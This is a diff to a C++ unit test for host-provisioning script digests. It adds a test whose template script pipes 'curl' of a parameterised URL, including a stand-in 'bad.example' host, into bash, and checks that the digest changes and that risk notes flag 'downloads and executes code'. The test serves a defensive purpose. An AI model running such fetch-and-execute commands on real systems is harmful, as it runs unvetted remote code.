@@ -7,6 +7,7 @@
 #include <set>
 
 #include "base/digest.h"
+#include "hostprovision/risk_notes.h"
 #include "hostprovision/script_text.h"
 #include "tests/unit/hostprovision/consent_support.h"
 
@@ -118,6 +119,24 @@ TEST(ScriptDigest, T5_no_two_texts_collide) {
   std::set<std::string> digests;
   for (const std::string& text : texts) digests.insert(script_digest(template_script(text)));
   EXPECT_EQ(digests.size(), texts.size());
+}
+
+TEST(ScriptDigest, T5_the_values_that_the_text_names) {
+  HostScript script = template_script("{{.Param.tool}} {{.Param.url}} | bash");
+  const std::string without = script_digest(script);
+  script.params = {{"tool", "curl"}, {"url", "https://good.example"}};
+  EXPECT_THAT(
+      canonical_json(script),
+      testing::HasSubstr(
+          R"("onError":null,"params":{"tool":"curl","url":"https://good.example"},"phase":)"));
+  const std::string good = script_digest(script);
+  script.params["url"] = "https://bad.example";
+  EXPECT_NE(script_digest(script), good);
+  EXPECT_NE(script_digest(script), without);
+  EXPECT_THAT(readable_text(script), testing::HasSubstr("Param.tool: \"curl\"\n"
+                                                        "Param.url: \"https://bad.example\"\n"));
+  EXPECT_THAT(risk_notes(script),
+              testing::Contains(testing::HasSubstr("downloads and executes code")));
 }
 
 TEST(ScriptDigest, Short) {
